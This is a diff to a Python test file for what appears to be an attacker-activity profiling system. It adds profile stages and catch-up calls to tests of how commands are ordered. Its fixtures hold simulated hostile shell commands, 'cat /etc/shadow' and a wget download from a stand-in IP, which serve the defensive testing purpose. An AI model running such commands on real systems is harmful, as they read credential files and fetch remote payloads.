@@ -10,6 +10,7 @@ import pytest
 from node.ingest.detect import parse_line
 from node.profile.enrichment.service import Enricher
 from node.profile.profiler import Profiler
+from node.profile.stages import PROFILE_STAGES
 from node.profile.views import observation_profile
 from node.store import Store
 
@@ -21,7 +22,7 @@ def shell(time: str, host: str, command: str) -> bytes:
 
 @pytest.fixture
 async def store(tmp_path: Path) -> AsyncIterator[Store]:
-    opened = await Store.open(tmp_path / "node.db", profilers=[Profiler()])
+    opened = await Store.open(tmp_path / "node.db", profilers=[Profiler()], stages=PROFILE_STAGES)
     yield opened
     await opened.close()
 
@@ -33,6 +34,7 @@ async def test_phase_order_uses_event_time_not_text(store: Store) -> None:
         shell("09:11:00", "web-02", "cat /etc/shadow"),
         shell("09:09:00", "web-03", "wget http://203.0.113.80/x"),
     )])
+    await store.catch_up()
     profile = await observation_profile(store, "192.0.2.44", Enricher.empty())
     assert profile is not None
     assert profile["phase_order"] == {
@@ -44,6 +46,7 @@ async def test_phase_order_uses_event_time_not_text(store: Store) -> None:
 async def test_commands_are_the_most_recent_in_time_order(store: Store) -> None:
     await store.write_batch([parse_line(shell(f"09:1{i}:00", "web-02", f"echo {i}"))
                              for i in range(5)])
+    await store.catch_up()
     profile = await observation_profile(store, "192.0.2.44", Enricher.empty(), command_limit=2)
     assert profile is not None
     assert profile["commands_total"] == 5
